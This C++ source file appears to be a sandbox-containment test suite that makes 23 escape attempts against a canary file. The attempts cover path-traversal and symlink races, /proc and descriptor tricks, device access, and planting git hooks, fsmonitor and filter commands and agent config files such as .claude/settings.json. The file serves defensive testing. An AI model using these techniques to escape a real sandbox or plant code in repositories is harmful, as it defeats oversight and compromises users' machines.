// Attempts 1 to 23: what lies outside of the folder, and names that others believe.
#include <fcntl.h>
#include <sched.h>
#include <sys/mount.h>
#include <sys/socket.h>
#include <sys/stat.h>
#include <sys/syscall.h>
#include <sys/sysmacros.h>
#include <sys/time.h>
#include <sys/un.h>
#include <sys/xattr.h>
#include <unistd.h>

#include <cerrno>
#include <cstdio>
#include <cstdlib>
#include <cstring>
#include <thread>
#include <vector>

#include "probes/probe.hpp"

namespace probes {
namespace {

// Whether the secret stands in the file; makes another beside it, and the driver looks whether that
// is outside, or in a folder that was put over it.
void reach(Ways& ways, const Targets& to, const std::string& folder, const std::string& how) {
  if (content(folder + "/secret").contains(to.text("canary"))) {
    ways.found("read " + folder + "/secret" + how);
  } else {
    ways.failed("read " + folder, std::strerror(errno));
  }
  errno = 0;
  const bool made = write_to(folder + "/made", "x");
  ways.failed("write " + folder, made ? "done, perhaps outside" : std::strerror(errno));
}

Outcome traversal(const Targets& to) {
  Ways ways;
  for (const char* up : {"..", "./..", ".//.//..", "sub/../..", "sub//./..//.."}) {
    ::mkdir("sub", 0755);
    reach(ways, to, std::string{up} + "/outside", "");
  }
  return ways.outcome();
}

Outcome absolute(const Targets& to) {
  Ways ways;
  reach(ways, to, to.text("outside"), "");
  reach(ways, to, "//" + to.text("outside"), "");
  return ways.outcome();
}

Outcome symlinks(const Targets& to) {
  Ways ways;
  ::unlink("link");
  ::unlink("relative");
  if (::symlink(to.text("outside").c_str(), "link") == 0) reach(ways, to, "link", "");
  if (::symlink("../outside", "relative") == 0) reach(ways, to, "relative", "");
  if (ways.outcome().evidence.empty()) ways.failed("symlink", std::strerror(errno));
  return ways.outcome();
}

Outcome swapped_link(const Targets& to) {
  Ways ways;
  bool over = false;
  ::mkdir("a", 0755);
  write_to("a/secret", "mine");
  if (::symlink(to.text("outside").c_str(), "b") != 0 && errno != EEXIST) {
    return {false, std::string{"symlink: "} + std::strerror(errno)};
  }
  std::thread racer{[&over] {
    while (!__atomic_load_n(&over, __ATOMIC_RELAXED)) {
      ::syscall(SYS_renameat2, AT_FDCWD, "a", AT_FDCWD, "b", 2 /* exchange */);
    }
  }};
  bool got = false;
  for (int i = 0; i < 20000 && !got; ++i) got = content("a/secret").contains(to.text("canary"));
  __atomic_store_n(&over, true, __ATOMIC_RELAXED);
  racer.join();
  if (got) ways.found("a swapped link led to the secret");
  if (!got) ways.failed("20000 rounds of swapping", "the secret was never read");
  return ways.outcome();
}

Outcome moved_parent(const Targets& to) {
  bool over = false;
  ::mkdir("deep", 0755);
  ::mkdir("deep/x", 0755);
  ::mkdir("deep/x/y", 0755);
  std::thread racer{[&over] {
    while (!__atomic_load_n(&over, __ATOMIC_RELAXED)) {
      ::rename("deep/x", "x");
      ::rename("x", "deep/x");
    }
  }};
  // While x lies at the top, three steps up leave the folder.
  bool got = false;
  for (int i = 0; i < 20000 && !got; ++i) {
    got = content("deep/x/y/../../../outside/secret").contains(to.text("canary")) ||
          content("deep/x/../../outside/secret").contains(to.text("canary"));
    const int fd = ::open("deep/x/y", O_PATH | O_DIRECTORY);
    if (fd < 0) continue;
    const int file = ::openat(fd, "../../../outside/secret", O_RDONLY);
    if (file >= 0) {
      got = true;
      ::close(file);
    }
    ::close(fd);
  }
  __atomic_store_n(&over, true, __ATOMIC_RELAXED);
  racer.join();
  return {got, got ? "a moved folder's parent led out" : "20000 rounds: the secret was never read"};
}

Outcome hard_link(const Targets& to) {
  Ways ways;
  const std::string file = to.text("outside") + "/secret";
  ways.tried("link", ::link(file.c_str(), "hard"));
  ways.tried("link out", ::link("targets.txt", (to.text("outside") + "/made").c_str()));
  return ways.outcome();
}

Outcome nested_bind(const Targets& to) {
  Ways ways;
  if (::unshare(CLONE_NEWUSER | CLONE_NEWNS) != 0) ways.failed("unshare", std::strerror(errno));
  ::mkdir("over", 0755);
  if (::mount(to.text("outside").c_str(), "over", nullptr, MS_BIND, nullptr) == 0) {
    reach(ways, to, "over", " by a bind mount");
  } else {
    ways.failed("bind", std::strerror(errno));
  }
  return ways.outcome();
}

Outcome through_proc(const Targets& to) {
  Ways ways;
  for (const std::string& root :
       {std::string{"/proc/self/root"}, std::string{"/proc/1/root"}, std::string{"/proc/2/root"},
        "/proc/" + to.text("victim") + "/root", "/proc/" + to.text("victim") + "/cwd/../../.."}) {
    reach(ways, to, root + to.text("outside"), "");
  }
  reach(ways, to, "/proc/self/cwd/../outside", "");
  reach(ways, to, "/proc/1/cwd/../outside", "");
  for (int fd = 0; fd < 64; ++fd) {
    for (const std::string& process : {std::string{"1"}, to.text("victim")}) {
      const std::string path = "/proc/" + process + "/fd/" + std::to_string(fd);
      if (content(path).contains(to.text("canary"))) ways.found("read " + path);
    }
  }
  return ways.outcome();
}

Outcome inherited(const Targets& to) {
  Ways ways;
  for (int fd = 3; fd < 256; ++fd) {
    char buffer[256];
    const ssize_t got = ::pread(fd, buffer, sizeof buffer, 0);
    if (got <= 0) continue;
    if (std::string(buffer, static_cast<std::size_t>(got)).contains(to.text("canary"))) {
      ways.found("descriptor " + std::to_string(fd) + " gives the secret");
    }
  }
  if (!ways.outcome().through) ways.failed("descriptors 3 to 255", "none gives the secret");
  return ways.outcome();
}

Outcome passed(const Targets& to) {
  const int fd = ::socket(AF_UNIX, SOCK_STREAM, 0);
  if (fd < 0) return {false, std::string{"socket: "} + std::strerror(errno)};
  sockaddr_un address{};
  address.sun_family = AF_UNIX;
  std::snprintf(address.sun_path, sizeof address.sun_path, "%s", "giver.sock");
  if (::connect(fd, reinterpret_cast<sockaddr*>(&address), sizeof address) != 0) {
    return {false, std::string{"connect: "} + std::strerror(errno)};
  }
  char byte = 0;
  iovec piece{&byte, 1};
  alignas(cmsghdr) char control[64];
  msghdr message{};
  message.msg_iov = &piece;
  message.msg_iovlen = 1;
  message.msg_control = control;
  message.msg_controllen = sizeof control;
  if (::recvmsg(fd, &message, 0) < 1) return {false, "nothing was passed"};
  const cmsghdr* head = CMSG_FIRSTHDR(&message);
  if (head == nullptr) return {false, "no descriptor was passed"};
  int given = -1;
  std::memcpy(&given, CMSG_DATA(head), sizeof given);
  char buffer[256];
  const ssize_t got = ::pread(given, buffer, sizeof buffer, 0);
  const bool through =
      got > 0 && std::string(buffer, static_cast<std::size_t>(got)).contains(to.text("canary"));
  return {through,
          through ? "a descriptor passed by a socket gives the secret" : "it gives nothing"};
}

Outcome by_handle(const Targets& to) {
  Ways ways;
  const std::string hex = to.text("handle");
  alignas(8) unsigned char raw[256] = {};
  for (std::size_t i = 0; i + 1 < hex.size() && i / 2 < sizeof raw; i += 2) {
    raw[i / 2] = static_cast<unsigned char>(std::stoi(hex.substr(i, 2), nullptr, 16));
  }
  for (const char* mount : {".", "/", "/usr"}) {
    const int at = ::open(mount, O_RDONLY | O_DIRECTORY);
    const long fd = ::syscall(SYS_open_by_handle_at, at, raw, O_RDONLY);
    char buffer[256];
    if (ways.tried(std::string{"open_by_handle_at "} + mount, fd)) {
      ways.tried("read of it", ::read(static_cast<int>(fd), buffer, sizeof buffer));
    }
  }
  return ways.outcome();
}

Outcome devices(const Targets& to) {
  Ways ways;
  for (const char* path :
       {"/dev/mem", "/dev/kmsg", "/dev/loop-control", "/dev/fuse", "/dev/kvm", "/dev/vda",
        "/dev/sda", "/dev/nvme0n1", "/dev/port", "/dev/mapper/control"}) {
    ways.tried(path, ::open(path, O_RDWR | O_NONBLOCK));
  }
  const auto disk = static_cast<dev_t>(to.number("disk"));
  ::unlink("disk");
  if (::mknod("disk", S_IFBLK | 0600, disk) == 0) {
    ways.tried("a disk made here", ::open("disk", O_RDONLY));
  } else {
    ways.failed("mknod", std::strerror(errno));
  }
  return ways.outcome();
}

Outcome kernel_settings(const Targets&) {
  Ways ways;
  // Opened, not written: what they do to the machine is known.
  for (const char* path :
       {"/proc/sys/kernel/core_pattern", "/proc/sysrq-trigger", "/proc/sys/kernel/modprobe",
        "/sys/kernel/uevent_helper", "/proc/sys/fs/binfmt_misc/register",
        "/proc/sys/vm/drop_caches", "/proc/sys/kernel/hostname", "/sys/power/state",
        "/proc/self/../sys/kernel/panic"}) {
    ways.tried(path, ::open(path, O_WRONLY));
  }
  return ways.outcome();
}

Outcome metadata(const Targets& to) {
  Ways ways;
  const std::string file = to.text("outside") + "/secret";
  const char* path = file.c_str();
  ways.tried("chmod", ::chmod(path, 0666));
  ways.tried("chown", ::chown(path, ::getuid(), ::getgid()));
  ways.tried("utimes", ::utimes(path, nullptr));
  ways.tried("setxattr", ::setxattr(path, "user.probe", "x", 1, 0));
  ways.tried("chmod of a system file", ::chmod("/usr/bin/env", 0755));
  ways.tried("utimes of a system file", ::utimes("/usr/lib/os-release", nullptr));
  const int fd = ::open("/usr/bin/env", O_RDONLY);
  ways.tried("fchmod of a system file", ::fchmod(fd, 0755));
  return ways.outcome();
}

Outcome nameless_file(const Targets& to) {
  Ways ways;
  const std::string folder = to.text("outside");
  const int there = ::open(folder.c_str(), O_TMPFILE | O_RDWR, 0644);
  ways.tried("O_TMPFILE outside", there);
  const int fd = ::open(".", O_TMPFILE | O_RDWR, 0644);
  if (fd < 0) {
    ways.failed("O_TMPFILE here", std::strerror(errno));
    return ways.outcome();
  }
  const std::string self = "/proc/self/fd/" + std::to_string(fd);
  ways.tried("linkat outside", ::linkat(AT_FDCWD, self.c_str(), AT_FDCWD,
                                        (folder + "/made").c_str(), AT_SYMLINK_FOLLOW));
  ways.tried("linkat of an empty path",
             ::linkat(fd, "", AT_FDCWD, (folder + "/made2").c_str(), AT_EMPTY_PATH));
  return ways.outcome();
}

// Makes the file with all folders above it; true if it was written.
bool plant(const std::string& path, const std::string& text) {
  for (std::size_t at = path.find('/', 1); at != std::string::npos; at = path.find('/', at + 1)) {
    ::mkdir(path.substr(0, at).c_str(), 0755);
  }
  return write_to(path, text);
}

// What counts is what is there afterwards: the driver looks.
Outcome planted(const std::vector<std::string>& paths, const std::string& text) {
  Ways ways;
  for (const std::string& path : paths) {
    if (plant(path, text)) {
      ways.found(path);
    } else {
      ways.failed(path, std::strerror(errno));
    }
  }
  return ways.outcome();
}

Outcome variants(const Targets&) {
  return planted({".GIT/hooks/pre-commit", ".Git/config", ".cUrSoR/mcp.json", ".VSCODE/tasks.json",
                  ".gi\xe2\x80\x8ct/config", ".git\xe2\x80\x8b/config", ".BashRC", ".git./config",
                  "git~1/config", ".git::$INDEX_ALLOCATION/config", ".NAESTRO/policy.yaml",
                  "\xef\xbc\x8egit/config", ".ba\xc5\xbfhrc"},
                 "planted");
}

Outcome absent(const Targets&) {
  return planted({".git/hooks/pre-commit",
                  ".git/config",
                  ".gitattributes",
                  ".gitmodules",
                  ".naestro/policy.yaml",
                  ".bashrc",
                  ".profile",
                  ".zshrc",
                  ".bash_profile",
                  ".vscode/tasks.json",
                  ".idea/workspace.xml",
                  ".cursor/mcp.json",
                  ".mcp.json",
                  ".claude/settings.json",
                  ".codex/config.toml",
                  ".envrc",
                  "sub/.git/hooks/pre-commit",
                  "a/b/c/d/e/.git/config",
                  "a/b/.vscode/tasks.json",
                  "sub/.envrc"},
                 "planted");
}

Outcome renamed_parent(const Targets&) {
  Ways ways;
  // An existing repository: away with it, and another in its place.
  ways.tried("rename of .git", ::rename("repo/.git", "repo/old"));
  ways.tried("rename of hooks", ::rename("repo/.git/hooks", "repo/.git/old"));
  ::rename("repo", "elsewhere");
  if (plant("repo/.git/hooks/pre-commit", "planted")) ways.found("repo/.git/hooks/pre-commit");
  if (write_to("elsewhere/.git/config", "planted")) ways.found("elsewhere/.git/config");
  return ways.outcome();
}

Outcome indirection(const Targets&) {
  // git takes "gitdir: PATH" for a repository elsewhere, whose settings it believes.
  ::mkdir("evil", 0755);
  ::mkdir("evil/objects", 0755);
  ::mkdir("evil/refs", 0755);
  write_to("evil/HEAD", "ref: refs/heads/main\n");
  write_to("evil/config",
           "[core]\n\trepositoryformatversion = 0\n\tworktree = ..\n"
           "\tfsmonitor = \"touch ../marker; false\"\n");
  return planted({".git", "nest/.git"}, "gitdir: ../evil\n");
}

Outcome filters(const Targets&) {
  Ways ways;
  if (write_to("repo/.gitattributes", "* filter=evil\n")) ways.found("repo/.gitattributes");
  const int fd = ::open("repo/.git/config", O_WRONLY | O_APPEND);
  const std::string text = "[filter \"evil\"]\n\tclean = touch ../marker; cat\n";
  if (ways.tried("open of .git/config", fd))
    ways.tried("write", ::write(fd, text.data(), text.size()));
  return ways.outcome();
}

Outcome monitor(const Targets&) {
  Ways ways;
  const std::string text = "[core]\n\tfsmonitor = \"touch ../marker; false\"\n";
  const int fd = ::open("repo/.git/config", O_WRONLY | O_APPEND);
  if (ways.tried("open of .git/config", fd)) {
    ways.tried("write", ::write(fd, text.data(), text.size()));
    return ways.outcome();
  }
  // git believes the settings of the folder that this file names.
  for (const char* folder : {"repo/common", "repo/common/objects", "repo/common/refs"}) {
    ::mkdir(folder, 0755);
  }
  write_to("repo/common/config", "[core]\n\trepositoryformatversion = 0\n" + text);
  if (write_to("repo/.git/commondir", "../common\n")) ways.found(".git/commondir");
  return ways.outcome();
}

Outcome hooks(const Targets&) {
  Ways ways;
  const std::string hook = "#!/bin/sh\ntouch ../marker\n";
  ::mkdir("repo/myhooks", 0755);
  for (const char* path : {"repo/.git/hooks/pre-commit", "repo/.git/hooks/post-index-change",
                           "repo/myhooks/pre-commit"}) {
    write_to(path, hook);
    ::chmod(path, 0755);
  }
  const int fd = ::open("repo/.git/config", O_WRONLY | O_APPEND);
  const std::string text = "[core]\n\thooksPath = myhooks\n";
  if (ways.tried("open of .git/config", fd))
    ways.tried("write", ::write(fd, text.data(), text.size()));
  if (!content("repo/.git/hooks/pre-commit").empty()) ways.found("repo/.git/hooks/pre-commit");
  return ways.outcome();
}

Outcome disk(const Targets&) {
  Ways ways;
  const int fd = ::open("sparse", O_WRONLY | O_CREAT, 0644);
  if (ways.tried("a sparse file of 1 TiB", ::ftruncate(fd, 1L << 40))) return ways.outcome();
  long bytes = 0;
  for (int i = 0; i < 32; ++i) {
    const int file = ::open(("fill-" + std::to_string(i)).c_str(), O_WRONLY | O_CREAT, 0644);
    if (file < 0 || ::fallocate(file, 0, 0, 200L << 20) != 0) break;
    bytes += 200L << 20;
    ::close(file);
    ::usleep(20'000);  // a watcher's chance
  }
  if (bytes >= 32 * (200L << 20)) ways.found("6.2 GiB of disk");
  long count = 0;
  ::mkdir("flood", 0755);
  for (; count < 250'000; ++count) {
    const int file = ::open(("flood/" + std::to_string(count)).c_str(), O_WRONLY | O_CREAT, 0600);
    if (file < 0) break;
    ::close(file);
  }
  if (count == 250'000) ways.found("250000 files");
  if (!ways.outcome().through) {
    ways.failed("disk",
                std::to_string(bytes >> 20) + " MiB and " + std::to_string(count) + " files");
  }
  return ways.outcome();
}

}  // namespace

const Attempt kFileAttempts[] = {
    {1, traversal},        {2, absolute},        {3, symlinks},       {4, swapped_link},
    {5, moved_parent},     {6, hard_link},       {7, nested_bind},    {8, through_proc},
    {9, inherited},        {10, passed},         {11, by_handle},     {12, devices},
    {13, kernel_settings}, {14, metadata},       {15, nameless_file}, {16, variants},
    {17, absent},          {18, renamed_parent}, {19, indirection},   {20, filters},
    {21, monitor},         {22, hooks},          {23, disk},          {0, nullptr}};

}  // namespace probes
